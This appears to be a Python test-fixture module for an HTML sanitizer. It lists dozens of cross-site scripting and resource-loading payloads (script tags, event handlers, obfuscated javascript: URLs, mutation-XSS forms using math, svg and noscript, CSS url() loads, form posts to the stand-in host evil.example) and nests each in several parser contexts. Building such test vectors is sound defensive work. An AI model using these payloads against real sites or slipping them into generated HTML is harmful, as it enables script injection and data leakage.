"""Which HTML tries to run, load or post something? Forms, each in contexts that parsers read differently (H10)."""

from collections.abc import Iterator, Sequence

EVIL = "https://evil.example/x"

FORMS = (
    "<script>alert(1)</script>",
    "<script src={evil}></script>",
    "<SCRIPT/XSS SRC={evil}></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src={evil}>",
    "<img srcset='{evil} 1x' src=cid:a>",
    "<img src='cid:a' onload=alert(1)>",
    "<img src='java&#x73;cript:alert(1)'>",
    "<img src=`javascript:alert(1)`>",
    "<img/src=x/onerror=alert(1)//",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href='jav&Tab;ascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='cid:a' ping={evil}>x</a>",
    "<a href={evil} onclick=alert(1) target=_blank>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src={evil}></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import '{evil}';</style>",
    "<style>body{{background:url({evil})}}</style>",
    "<p style='background:url({evil})'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url({evil})'>x</p>",
    "<link rel=stylesheet href={evil}>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<base href={evil}><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url={evil}'>",
    "<meta http-equiv=Set-Cookie content=a=b>",
    "<iframe src={evil}></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src={evil}></frameset>",
    "<object data={evil}></object>",
    "<embed src={evil}>",
    "<applet code=x codebase={evil}></applet>",
    "<form action={evil}><input name=x><button formaction={evil}>x</button></form>",
    "<input type=image src={evil}>",
    "<isindex action={evil}>",
    "<video src={evil} poster={evil} onplay=alert(1)></video>",
    "<audio src={evil} autoplay></audio>",
    "<table background={evil}><tr><td background={evil}>x</td></tr></table>",
    "<body background={evil} onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<template><script>alert(1)</script></template>",
    "<xml id=x><i><![CDATA[<img src=x onerror=alert(1)>]]></i></xml>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<plaintext><script>alert(1)</script>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><script>alert(1)</script></title>",
    "<v:imagedata src={evil} xmlns:v='urn:schemas-microsoft-com:vml'/>",
    "<q cite={evil}>x</q><blockquote cite='javascript:alert(1)'>x</blockquote>",
)

CONTEXTS = (
    "{}",
    "<p>Bonjour</p>{}<p>Merci</p>",
    "<div><div>{}",
    "<table><tr><td>{}</td></tr></table>",
    "<table>{}</table>",
    "<select><option>{}</option></select>",
    "<!-- -->{}<!--",
    "<p title='\">{}",
    "<svg>{}</svg>",
    "<a href='https://isybuy.example'>{}</a>",
)


def vectors(contexts: Sequence[str] = CONTEXTS) -> Iterator[str]:
    """Each form in each context."""
    for context in contexts:
        for form in FORMS:
            yield context.replace("{}", form.format(evil=EVIL))
